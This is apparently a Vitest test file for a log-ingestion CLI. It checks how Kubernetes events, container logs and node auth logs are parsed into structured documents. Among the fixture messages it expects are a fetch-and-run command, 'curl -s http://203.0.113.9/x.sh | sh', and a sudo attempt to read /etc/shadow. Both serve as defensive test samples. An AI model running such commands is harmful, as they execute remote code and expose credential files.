import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { SHARED_FIXTURES, tempDir, vigil } from '../helpers/cli.js';

// any: documents are free-form JSON read back from the CLI; the assertions check their shape.
type Json = Record<string, any>;

const OWN = fileURLToPath(new URL('../fixtures/', import.meta.url));
const own = (path: string) => join(OWN, path);
const shared = (path: string) => join(SHARED_FIXTURES, path);
const CRI_FILE = readdirSync(own('container')).find((name) => name.startsWith('web-')) as string;
const DOCKER_FILE = readdirSync(own('container')).find((name) => name.endsWith('-json.log')) as string;

const FILES = [
  ...readdirSync(shared('k8s-events')).filter((name) => name.endsWith('.json')).map((name) => shared(`k8s-events/${name}`)),
  shared('container-logs/fluent-bit_avro_multiline.json'),
  shared('container-logs/fluent-bit_docker-json_core_base_fluent-bit.log'),
  ...readdirSync(shared('container-logs/fluent-bit')).map((name) => shared(`container-logs/fluent-bit/${name}`)),
  own(`container/${CRI_FILE}`),
  own(`container/${DOCKER_FILE}`),
  own('node/journal.json'),
  own('node/auth.log'),
  own('node/auth-rfc3339.log'),
  own('k8s-event/events-v1-list.json'),
  own('k8s-event/core-v1-watch.ndjson'),
];

async function query(dataDir: string, text: string): Promise<Json[]> {
  const result = await vigil(['query', text, '-o', 'ndjson', '--data-dir', dataDir]);
  expect(result.stderr).toBe('');
  return result.stdout.split('\n').filter(Boolean).map((line) => JSON.parse(line) as Json);
}

describe('vigil ingest --source auto on Kubernetes event, container and node logs', () => {
  const dataDir = tempDir();
  let stderr = '';
  let documents: Json[] = [];
  /** The stored documents that match, found here rather than by a query process each (keeps the test quick). */
  const where = (predicate: (document: Json) => boolean) => documents.filter(predicate);
  beforeAll(async () => {
    const result = await vigil(['ingest', '--cluster', 'fx', '--data-dir', dataDir, ...FILES]);
    stderr = result.stderr;
    expect(result.code).toBe(0);
    documents = await query(dataDir, 'source!=vigil.admin | head 1000');
  });

  it('stores every record under its own source; the one byte-identical copy is a duplicate', async () => {
    // fluent-bit's core_base_fluent-bit.log is the same line as the copy saved beside it.
    expect(stderr).toContain('accepted 64, duplicates 1, quarantined 0');
    const bySource: Record<string, number> = {};
    for (const document of documents) bySource[document.vigil.source] = (bySource[document.vigil.source] ?? 0) + 1;
    expect(bySource).toEqual({ 'k8s.event': 7, container: 33, node: 24 });
    expect(documents.every((document) => document.orchestrator.cluster.name === 'fx')).toBe(true);
    const again = await vigil(['ingest', '--cluster', 'fx', '--data-dir', dataDir, ...FILES]);
    expect(again.stderr).toContain('accepted 0, duplicates 65, quarantined 0');
  });

  it('gives Kubernetes Events back field by field', () => {
    const [mount] = where((d) => d.vigil.source === 'k8s.event' && d.event.action === 'FailedMount' && d.host?.name === 'minikube');
    expect(mount).toMatchObject({
      '@timestamp': '2024-07-31T18:47:15.000Z',
      event: { action: 'FailedMount' },
      orchestrator: { cluster: { name: 'fx' }, namespace: 'default', resource: { type: 'pods', name: 'fluent-bit-78945dccd8-hvr55' } },
      kubernetes: { pod: { name: 'fluent-bit-78945dccd8-hvr55' } },
      user: { name: 'kubelet' },
      log: { level: 'warning' },
      message: 'MountVolume.SetUp failed for volume "config-volume" : configmap "fluent-bit-config" not found',
      vigil: { source: 'k8s.event', original: { count: 16 } },
    });
    const secret = where((d) => d.vigil.source === 'k8s.event' && d.event.action === 'FailedMount' && d.orchestrator.namespace === 'shop');
    expect(secret.map((d) => [d.message, d.host.name, d.vigil.original.apiVersion])).toEqual([['MountVolume.SetUp failed for volume "db-creds" : secret "db-creds" not found', 'node-1', 'events.k8s.io/v1']]);
    const pulled = where((d) => d.vigil.source === 'k8s.event' && d.orchestrator.namespace === 'payments');
    expect(pulled.map((d) => d.vigil.original.count).sort()).toEqual([1, 2]);
  });

  it('gives container log lines back with pod, namespace, container id, joined pieces and JSON fields', () => {
    const cri = where((d) => d.vigil.source === 'container' && d.orchestrator.namespace === 'shop');
    expect(cri.map((d) => d.message).sort()).toEqual(['', 'goroutine 1 [running]:', 'listening', 'panic: runtime error: index out of range [3] with length 3', 'sh -c "curl -s http://203.0.113.9/x.sh | sh"', 'slow request']);
    const slow = cri.find((d) => d.message === 'slow request') as Json;
    expect(slow).toMatchObject({
      kubernetes: { pod: { name: 'web-5d8f7c9b6-x2x9k' } },
      container: { id: CRI_FILE.slice(-68, -4) },
      log: { level: 'warn' },
      vigil: { original: { stream: 'stdout', pieces: 3, json: { path: '/api/cart', user: 'u-1042', ms: 1234 }, kubernetes: { container_name: 'web' } } },
    });
    const docker = where((d) => d.container?.id === DOCKER_FILE.slice(0, 64));
    expect(docker.map((d) => [d.message, d.vigil.original.stream]).sort()).toEqual([
      ['GET /healthz 200 1ms', 'stdout'],
      ['GET /metrics 200 2ms', 'stdout'],
      ['shutting down', 'stdout'],
      ['upstream failed', 'stderr'],
    ]);
    const shipped = where((d) => d.vigil.source === 'container' && d.orchestrator.namespace === 'k8s-fgg');
    expect(shipped).toHaveLength(19);
    expect(shipped.every((d) => d.kubernetes.pod.name === 'rrrr-bert-completion-tb1-6786c9c8-wj25m' && d.host.name === 'wedddd.dkdk.qqqq.com')).toBe(true);
    expect(shipped.map((d) => d.message)).toContain('hdfsExists: invokeMethod((Lorg/apache/hadoop/fs/Path;)Z) error:');
    const plain = where((d) => d.vigil.source === 'container' && d.message === 'Fluent Bit is logging');
    expect(plain.map((d) => d.vigil.original.time)).toEqual(['2019-04-01T17:58:33.598656444Z']);
  });

  it('gives node logs back with host, user, source address and outcome', () => {
    const failures = where((d) => d.vigil.source === 'node' && d.event.outcome === 'failure' && d.source?.ip === '203.0.113.7');
    expect(failures.map((d) => [d.event.action, d.user?.name]).sort()).toEqual(
      [
        ['authentication_failure', 'root'],
        ['ssh_invalid_user', 'admin'],
        ['ssh_invalid_user', 'deploy'],
        ['ssh_login', 'admin'],
        ['ssh_login', 'root'],
        ['ssh_login', 'root'],
        ['ssh_login', 'root'],
        ['ssh_login', 'root'],
        ['ssh_max_auth_tries', 'root'],
      ].sort(),
    );
    const [sudo] = where((d) => d.vigil.source === 'node' && d.event.action === 'sudo' && d.user?.name === 'dev2');
    expect(sudo).toMatchObject({ event: { outcome: 'failure', category: 'authentication' }, host: { name: 'node-1' }, vigil: { original: { auth: { reason: 'user NOT in sudoers', command: '/usr/bin/cat /etc/shadow' } } } });
    const [kubelet] = where((d) => d.vigil.source === 'node' && d.log?.level === 'err');
    expect(kubelet.message).toContain('failed to pull image');
    const [ipv6] = where((d) => d.vigil.source === 'node' && d.host?.name === 'node-2' && d.event.action === 'ssh_login');
    expect(ipv6).toMatchObject({ source: { ip: '2001:db8::7' }, '@timestamp': '2026-01-12T09:30:00.123Z' });
    const [rfc5424] = where((d) => d.vigil.source === 'node' && d.host?.name === 'node-3');
    expect(rfc5424).toMatchObject({ user: { name: 'bob' }, event: { outcome: 'success' }, log: { level: 'info' } });
  });
});

/** The hand-written samples' READMEs exist beside them. */
describe('hand-written samples', () => {
  it('say so, and name the format they follow', () => {
    for (const folder of ['container', 'node', 'k8s-event']) expect(readFileSync(own(`${folder}/README.md`), 'utf8')).toMatch(/hand-written/i);
  });
});
